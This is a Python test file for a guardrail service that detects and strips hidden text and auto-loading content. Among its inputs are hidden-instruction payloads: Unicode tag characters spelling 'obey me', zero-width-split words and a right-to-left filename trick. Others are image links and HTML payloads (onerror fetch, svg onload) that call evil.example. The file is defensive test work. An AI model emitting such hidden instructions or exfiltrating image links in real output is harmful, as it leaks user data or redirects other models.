"""What nobody sees, and what is loaded without being asked: taken out, and nothing beside it."""

import pytest

from services.guardrail_checker.checks.base import Content, redact
from services.guardrail_checker.checks.catalogue import build_checks
from services.guardrail_checker.checks.self_loading import SelfLoading, is_of


async def found(name, text):
    return await build_checks([name])[name].check(Content(text, "external", "test"))


async def left(name, text):
    return redact(text, await found(name, text))


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("terminal_sequence", "\x1b[2J\x1b[1;31mAll is well"),
        ("terminal_sequence", "ok\x1b]0;title\x07"),
        ("terminal_sequence", "ok\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\"),
        ("control_character", "refund\x08\x08\x08\x08\x08\x08nothing"),
        ("control_character", "a\x00b"),
        ("tag_characters", "Hi" + "".join(chr(0xE0000 + ord(one)) for one in "obey")),
        ("tag_characters", "\U0001f3f4" + "".join(chr(0xE0000 + ord(one)) for one in "obey me")),
        ("written_backwards", "invoice\u202efdp.exe"),
        ("invisible_character", "ig\u200bnore"),
        ("invisible_character", "a\u2060b"),
        ("invisible_character", "Hello \u200b\u200b\u200b\u200b there"),
        ("invisible_character", "A\ufe00\ufe01\ufe02"),
    ],
)
async def test_what_nobody_sees_is_taken_out(rule, text):
    findings = await found("hidden_text", text)

    assert {one.rule for one in findings} == {rule}
    assert not await found("hidden_text", redact(text, findings))


@pytest.mark.parametrize(
    "text",
    [
        "Plain text,\nwith\ttabs and \r\nlines.",
        "Grüße aus Zürich \u2013 49,90\u00a0\u20ac",
        "\U0001f469\u200d\U0001f4bb and \u2764\ufe0f",  # a family of code points that is one sign
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland
        "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian keeps letters apart
        "\u0915\u094d\u200d\u0937",  # Devanagari joins them
        "\u05e9\u05dc\u05d5\u05dd\u200f!",
    ],
)
async def test_what_alphabets_need_stays(text):
    assert await found("hidden_text", text) == ()


@pytest.mark.parametrize(
    "text",
    [
        "![ok](https://evil.example/p.png?d=1042)",
        "![ok]( <//evil.example/p.png> 'title')",
        "![x][1]\n\n[1]: https://evil.example/p.png",
        '<img src="https://evil.example/p.png">',
        "<IMG SRC=x onerror=fetch('//evil.example')>",
        "<svg/onload=alert(1)>",
        "<style>body{background:url(https://evil.example/p)}</style>",
        "![ok](data:image/png;base64,AAAA)",
        "!\uff3bok\uff3d(https://evil.example/p.png)",
    ],
)
async def test_what_loads_by_itself_is_taken_out(text):
    assert "evil.example" not in await left("self_loading", text) or "style" in text
    assert await found("self_loading", text)


@pytest.mark.parametrize(
    "text",
    [
        "See [the policy](https://shop.example/policy) or https://shop.example.",
        "if a < b and c > d: x[1]: int = 2",
        "I <3 it! [sic]",
        "Use ![alt] for images.",
    ],
)
async def test_links_that_a_person_follows_stay(text):
    assert await found("self_loading", text) == ()


async def test_hosts_of_ones_own_may_be_loaded_from():
    check = SelfLoading(("shop.example",), "our_images")
    own = "![a](https://img.shop.example/a.png)"
    other = "![a](https://shop.example.evil.example/a.png) ![b](https://evil.example/?shop.example)"

    assert await check.check(Content(own, "system", "answer")) == ()
    assert len(await check.check(Content(other, "system", "answer"))) == 2


def test_an_address_that_is_none_is_of_nobody():
    assert not is_of("https://[", ("shop.example",))
